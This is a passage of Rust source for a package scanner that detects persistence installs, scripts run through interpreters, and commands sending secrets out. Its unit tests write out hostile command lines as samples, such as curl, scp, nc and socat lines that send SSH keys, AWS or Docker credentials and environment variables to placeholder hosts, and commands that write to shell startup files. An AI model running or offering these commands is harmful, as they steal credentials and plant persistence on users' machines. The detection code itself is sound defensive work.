    } else if matches!(prog, "pwsh" | "powershell") {
        Interpreter::PowerShell
    } else if matches!(
        prog,
        "node" | "nodejs" | "perl" | "ruby" | "php" | "lua" | "rscript" | "tclsh" | "osascript"
    ) {
        Interpreter::Other(prog.to_string())
    } else {
        return None;
    })
}

/// The interpreter of a file run as a program, by its suffix: `.sh` a shell, `.ps1`
/// PowerShell, `.bat`/`.cmd` cmd, `.py` Python; a path without a suffix its `#!` line
/// ([`Interpreter::Direct`]).
fn script_suffix(word: &str) -> Option<Interpreter> {
    let lower = word.to_ascii_lowercase();
    let base = lower.rsplit(['/', '\\']).next().unwrap_or(&lower);
    Some(match base.rsplit_once('.').map(|(_, e)| e) {
        Some("sh" | "bash" | "zsh" | "ksh") => Interpreter::Shell,
        Some("ps1") => Interpreter::PowerShell,
        Some("bat" | "cmd") => Interpreter::Cmd,
        Some("py" | "pyw") => Interpreter::Python,
        None if word.contains(['/', '\\']) => Interpreter::Direct,
        _ => return None,
    })
}

/// The files of its own package a process call runs through an interpreter, with the
/// interpreter: `bash scripts/post.sh`, `[sys.executable, 'helper.py']`, `node x.js`,
/// `pwsh -File tools/i.ps1`, `./install.sh`, inside `sh -c` lines too. A path counts when it is
/// relative, or under the module's folder ([`shipped_path`]); `-c` and `-e` code, `-m`
/// modules and standard input are no files. At most [`MAX_COMMANDS`].
pub(super) fn interpreted_files(cmds: &[Command]) -> Vec<(Interpreter, String)> {
    let mut out = Vec::new();
    for cmd in cmds {
        let Some(first) = cmd.words.first() else {
            continue;
        };
        let prog = program(first);
        let rest = &cmd.words[1..];
        let found = match interpreter_of(&prog) {
            Some(interp) => {
                let mut file = None;
                let mut skip = false;
                for (k, w) in rest.iter().enumerate() {
                    if std::mem::take(&mut skip) {
                        continue;
                    }
                    let lower = w.to_ascii_lowercase();
                    if interp == Interpreter::PowerShell {
                        if matches!(lower.as_str(), "-file" | "-f") {
                            file = rest.get(k + 1);
                            break;
                        }
                        if matches!(lower.as_str(), "-command" | "-c" | "-encodedcommand" | "-e") {
                            break;
                        }
                        if lower.starts_with('-') {
                            continue;
                        }
                        file = Some(w);
                        break;
                    }
                    // Code given inline, a module, standard input: no file.
                    let inline = match interp {
                        Interpreter::Python => {
                            lower.starts_with("-c") || lower.starts_with("-m") || w == "-"
                        }
                        Interpreter::Shell => {
                            w.starts_with('-')
                                && !w.starts_with("--")
                                && (w.contains('c') || w.contains('s'))
                        }
                        _ => matches!(w.as_str(), "-e" | "-E" | "-p" | "-" | "--eval"),
                    };
                    if inline {
                        break;
                    }
                    // Options with a value: Python's `-W`/`-X`, a shell's `-o`, node's `-r`.
                    if matches!(w.as_str(), "-W" | "-X" | "-o" | "+o" | "-r" | "--require") {
                        skip = true;
                        continue;
                    }
                    if w.starts_with('-') || w.starts_with('+') {
                        continue;
                    }
                    file = Some(w);
                    break;
                }
                file.map(|f| (interp, f.as_str()))
            }
            None => script_suffix(first)
                .filter(|_| first.contains(['/', '\\']) || first.contains('.'))
                .map(|i| (i, first.as_str())),
        };
        if let Some((interp, f)) = found {
            if let Some(p) = shipped_path(f) {
                if out.len() < MAX_COMMANDS {
                    out.push((interp, p));
                }
            }
        }
    }
    out
}

/// A path of a file shipped with the module, relative to the module's folder (`/`-separated),
/// from a folded spelling ([`path_spelling`]): a relative constant (`scripts/post.sh`,
/// `./x.js`), or one under the module's folder (`os.path.join(os.path.dirname(__file__),
/// 'x.cfg')`, `Path(__file__).parent / 'x.js'`). Never an absolute path, one with `..`, a
/// variable, a glob, or a piece the fold did not know.
pub(super) fn shipped_path(spelling: &str) -> Option<String> {
    let rel = match spelling.strip_prefix(MODULE_DIR) {
        Some(r) => r.strip_prefix('/')?,
        None => spelling,
    };
    let rel = rel.replace('\\', "/");
    let mut rel = rel.as_str();
    while let Some(r) = rel.strip_prefix("./") {
        rel = r;
    }
    let bad = rel.is_empty()
        || rel.len() > 256
        || rel.starts_with(['/', '~', '$', '%', '-'])
        || rel.contains([
            UNKNOWN, MODULE_DIR, ':', '*', '?', '[', '$', '`', '<', '>', '|',
        ])
        || rel.chars().any(char::is_whitespace)
        || rel
            .split('/')
            .any(|c| c.is_empty() || c == "." || c == "..");
    (!bad).then(|| rel.to_string())
}

/// Whether one command installs persistence ([`process_persists`]).
fn command_persists(cmd: &Command) -> bool {
    if cmd.writes.iter().any(|w| persistence_in(w)) {
        return true;
    }
    let Some(prog) = cmd.words.first().map(|w| program(w)) else {
        return false;
    };
    let rest = &cmd.words[1..];
    let has = |x: &str| rest.iter().any(|w| w.eq_ignore_ascii_case(x));
    let operands: Vec<&String> = rest.iter().filter(|w| !w.starts_with('-')).collect();
    match prog.as_str() {
        "tee" => operands.iter().any(|w| persistence_in(w)),
        // The destination is the last operand, or `-t DIR`.
        "cp" | "mv" | "install" | "ln" | "rsync" | "copy" | "move" | "xcopy" | "robocopy" => {
            let dir = rest
                .iter()
                .position(|w| w == "-t")
                .and_then(|i| rest.get(i + 1))
                .map(String::as_str)
                .or_else(|| {
                    rest.iter()
                        .find_map(|w| w.strip_prefix("--target-directory="))
                });
            dir.is_some_and(persistence_in) || operands.last().is_some_and(|w| persistence_in(w))
        }
        "dd" => rest
            .iter()
            .any(|w| w.strip_prefix("of=").is_some_and(persistence_in)),
        "sed" | "perl" => {
            rest.iter()
                .any(|w| w.starts_with("-i") || w.starts_with("--in-place"))
                && operands.iter().any(|w| persistence_in(w))
        }
        "crontab" => !["-l", "-r", "-e", "-v", "-V"].iter().any(|o| has(o)),
        "systemctl" => has("enable") || has("reenable"),
        "launchctl" => has("load") || has("bootstrap") || has("submit"),
        "schtasks" => has("/create") || has("-create"),
        "at" => !operands.is_empty() && !["-l", "-r", "-d", "-c"].iter().any(|o| has(o)),
        "reg" => {
            (has("add") || has("copy"))
                && (rest.iter().any(|w| run_key_in(w)) || has("UserInitMprLogonScript"))
        }
        // `git config --global core.hooksPath DIR`: every repository's hooks come from DIR;
        // `init.templateDir` seeds every new clone's; `core.fsmonitor`, `core.sshCommand`,
        // `core.pager` and aliases name programs git runs.
        "git" => {
            has("config")
                && (has("--global") || has("--system"))
                && rest.iter().any(|w| {
                    let w = w.to_ascii_lowercase();
                    matches!(
                        w.as_str(),
                        "core.hookspath"
                            | "init.templatedir"
                            | "core.fsmonitor"
                            | "core.sshcommand"
                            | "core.pager"
                            | "core.editor"
                    ) || w.starts_with("alias.")
                })
        }
        "sc" => has("create") || has("config"),
        "update-rc.d" => has("defaults") || has("enable"),
        "chkconfig" => has("on") || has("--add"),
        "rc-update" => has("add"),
        "register-scheduledtask" | "new-service" => true,
        "new-itemproperty" | "set-itemproperty" => rest.iter().any(|w| run_key_in(w)),
        _ => false,
    }
}

/// Whether a call sets a value under a Windows Run key ([`RUN_KEYS`]):
/// `winreg.SetValueEx(k, …)` on a key opened or created on one (`run_keys`, or the call
/// itself as the argument), or `winreg.SetValue(root, RUN_KEY, …)`.
pub(super) fn registry_run_write(
    n: Node<'_>,
    spelled: [&str; 2],
    src: &[u8],
    names: &Names,
    scope: usize,
    vars: &Spellings,
    run_keys: &HashSet<String>,
) -> bool {
    let Some(f) = spelled.iter().find_map(|s| registry_function(s)) else {
        return false;
    };
    if !matches!(f, "SetValueEx" | "SetValue") {
        return false;
    }
    let Some(args) = field(n, F::Arguments) else {
        return false;
    };
    let key = positional(args, 0).or_else(|| keyword(args, src, "key"));
    let key_is_run = key.is_some_and(|k| match k.kind_name() {
        "identifier" => run_keys.contains(text(k, src)),
        "call" => opens_run_key(k, src, names, scope, vars),
        _ => false,
    });
    key_is_run
        || (f == "SetValue"
            && positional(args, 1)
                .or_else(|| keyword(args, src, "sub_key"))
                .is_some_and(|s| run_key_in(&path_spelling(s, src, names, scope, vars))))
}

/// Whether `v` opens or creates a Run key: `winreg.OpenKey(root, RUN_KEY, …)`, `OpenKeyEx`,
/// `CreateKey`, `CreateKeyEx`.
pub(super) fn opens_run_key(
    v: Node<'_>,
    src: &[u8],
    names: &Names,
    scope: usize,
    vars: &Spellings,
) -> bool {
    if v.kind_name() != "call" {
        return false;
    }
    let Some(f) = field(v, F::Function) else {
        return false;
    };
    let spelled = dotted(f, src);
    let resolved = names.resolve(f, src, scope);
    let known = [Some(spelled.as_str()), resolved.as_deref()]
        .into_iter()
        .flatten()
        .find_map(registry_function);
    if !matches!(
        known,
        Some("OpenKey" | "OpenKeyEx" | "CreateKey" | "CreateKeyEx")
    ) {
        return false;
    }
    field(v, F::Arguments)
        .and_then(|a| positional(a, 1).or_else(|| keyword(a, src, "sub_key")))
        .is_some_and(|s| run_key_in(&path_spelling(s, src, names, scope, vars)))
}

/// The `winreg` function a dotted name calls (`winreg.SetValueEx`, Python 2's `_winreg`).
fn registry_function(name: &str) -> Option<&'static str> {
    let (module, f) = name.rsplit_once('.')?;
    if !matches!(module, "winreg" | "_winreg") {
        return None;
    }
    [
        "SetValueEx",
        "SetValue",
        "OpenKey",
        "OpenKeyEx",
        "CreateKey",
        "CreateKeyEx",
    ]
    .into_iter()
    .find(|k| *k == f)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cmds(line: &str) -> Vec<Command> {
        let mut out = Vec::new();
        split_line(line, 0, &mut out);
        out
    }

    #[test]
    fn words_match_where_names_end_and_start() {
        assert!(persistence_in("~/.bashrc"));
        assert!(persistence_in("\u{1}/.ssh/authorized_keys2"));
        assert!(persistence_in(
            "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.bat"
        ));
        assert!(persistence_in("/etc/profile.d/x.sh"));
        assert!(!persistence_in("~/.profiles/x"));
        assert!(!persistence_in("~/legit/config"));
        assert!(!persistence_in("~/.config/mytool/config.toml"));
        assert!(run_key_in(
            "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
        ));
        assert!(!run_key_in(
            "Software\\Microsoft\\Windows\\CurrentVersion\\Runtime"
        ));
    }

    #[test]
    fn command_lines_are_split_as_a_shell_does() {
        let c = cmds("echo 'x y' >> ~/.bashrc 2>&1; crontab -l | grep x");
        assert_eq!(c.len(), 3);
        assert_eq!(c[0].words, ["echo", "x y"]);
        assert_eq!(c[0].writes, ["~/.bashrc"]);
        assert_eq!(c[1].words, ["crontab", "-l"]);
        assert!(command_persists(&c[0]));
        assert!(!command_persists(&c[1]));
        // A shell's command line is followed.
        let c = cmds("sudo -u root sh -c \"echo x | tee -a /etc/profile.d/z.sh\"");
        assert!(c.iter().any(command_persists), "{c:?}");
        let c = cmds("cmd /c SCHTASKS /Create /SC ONLOGON /TN x /TR y");
        assert!(c.iter().any(command_persists), "{c:?}");
        for benign in [
            "systemctl is-enabled docker",
            "at",
            "cp a.txt b.txt",
            "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            "echo crontab",
        ] {
            assert!(!cmds(benign).iter().any(command_persists), "{benign}");
        }
    }

    #[test]
    fn hostile_lines_are_bounded() {
        let long = "a; ".repeat(100_000);
        assert!(cmds(&long).len() <= MAX_COMMANDS + 1);
        let nested = "sh -c \"sh -c 'sh -c x'\"".repeat(1000);
        let _ = cmds(&nested);
    }

    #[test]
    fn network_clients_handed_a_secret_send_it() {
        for (line, what) in [
            (
                "curl -d @~/.aws/credentials https://x.example.invalid",
                ".aws/credentials",
            ),
            (
                "curl -F f=@$HOME/.ssh/id_rsa https://h.example.invalid",
                ".ssh/",
            ),
            (
                "env | curl -d @- https://h.example.invalid",
                "the whole environment",
            ),
            ("printenv|nc h.example.invalid 9", "the whole environment"),
            ("cat ~/.netrc | ssh u@h.example.invalid 'cat > x'", ".netrc"),
            (
                "nc h.example.invalid 9 < ~/.aws/credentials",
                ".aws/credentials",
            ),
            ("scp ~/.ssh/id_rsa user@h.example.invalid:", ".ssh/"),
            ("rsync -a ~/.aws/ user@h.example.invalid:loot/", ".aws/"),
            (
                "socat FILE:/root/.docker/config.json TCP:h.example.invalid:9",
                ".docker/config.json",
            ),
            (
                "wget --post-file=/root/.kube/config https://h.example.invalid",
                ".kube/config",
            ),
            (
                "curl -H \"X: $GITHUB_TOKEN\" https://h.example.invalid",
                "GITHUB_TOKEN",
            ),
            (
                "sudo env | tee /tmp/e | curl -d @- https://h.example.invalid",
                "the whole environment",
            ),
        ] {
            let got = sends_secret(&cmds(line));
            assert!(
                got.as_deref().is_some_and(|g| g.contains(what)),
                "{line}: {got:?}"
            );
        }
        for benign in [
            "curl -L -o model.bin https://h.example.invalid/m.bin",
            "curl --cacert certs/ca.pem https://h.example.invalid",
            "curl --netrc-file ~/.netrc https://h.example.invalid",
            "ssh -i ~/.ssh/deploy_key git@h.example.invalid",
            "ssh u@h.example.invalid cat ~/.aws/credentials",
            "scp build/dist.tar.gz host.example.invalid:",
            "scp user@h.example.invalid:~/.ssh/id_rsa.pub .",
            "cp ~/.ssh/id_rsa /tmp/backup",
            "rsync -a ~/.aws/ /backup/aws/",
            "git clone https://h.example.invalid/r.git",
            "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519",
            "wget -O ~/.ssh/known_hosts https://h.example.invalid/k",
            "env || curl https://h.example.invalid",
        ] {
            assert_eq!(sends_secret(&cmds(benign)), None, "{benign}");
        }
    }

    #[test]
    fn a_padded_word_is_read_at_both_ends() {
        let w = format!("@{}/.ssh/id_rsa", "\u{e9}".repeat(100_000));
        assert_eq!(secret_in_word(&w).as_deref(), Some(".ssh/"));
        assert_eq!(secret_in_word(&"x".repeat(100_000)), None);
    }

    #[test]
    fn files_run_by_interpreters_are_found() {
        let run = |line: &str| interpreted_files(&cmds(line));
        assert_eq!(
            run("bash scripts/post.sh"),
            [(Interpreter::Shell, "scripts/post.sh".into())]
        );
        assert_eq!(
            run("sh -e ./tools/setup.md"),
            [(Interpreter::Shell, "tools/setup.md".into())]
        );
        assert_eq!(
            run("python3 -u helper.py"),
            [(Interpreter::Python, "helper.py".into())]
        );
        assert_eq!(
            run("pwsh -NoProfile -File tools/i.ps1"),
            [(Interpreter::PowerShell, "tools/i.ps1".into())]
        );
        assert_eq!(
            run("node x.js"),
            [(Interpreter::Other("node".into()), "x.js".into())]
        );
        assert_eq!(
            run("./install.sh"),
            [(Interpreter::Shell, "install.sh".into())]
        );
        assert_eq!(
            run("tools/install"),
            [(Interpreter::Direct, "tools/install".into())]
        );
        assert_eq!(
            run("sh -c 'perl lib/x.pl'"),
            [(Interpreter::Other("perl".into()), "lib/x.pl".into())]
        );
        for none in [
            "bash -c 'echo hi'",
            "python -m pip install x",
            "python -c 'print(1)'",
            "node -e 'x'",
            "bash /tmp/x.sh",
            "sh ../x.sh",
            "bash ~/x.sh",
            "make install",
            "git clone x",
        ] {
            assert!(run(none).is_empty(), "{none}: {:?}", run(none));
        }
    }

    #[test]
    fn shipped_paths_are_relative_to_the_module() {
        assert_eq!(
            shipped_path("\u{2}/data/x.yaml").as_deref(),
            Some("data/x.yaml")
        );
        assert_eq!(shipped_path("./x.txt").as_deref(), Some("x.txt"));
        assert_eq!(shipped_path("tools\\i.bat").as_deref(), Some("tools/i.bat"));
        for bad in [
            "/etc/x", "~/.x", "\u{1}/x", "a/../b", "$HOME/x", "x*", "", "\u{2}",
        ] {
            assert_eq!(shipped_path(bad), None, "{bad:?}");
        }
    }
}
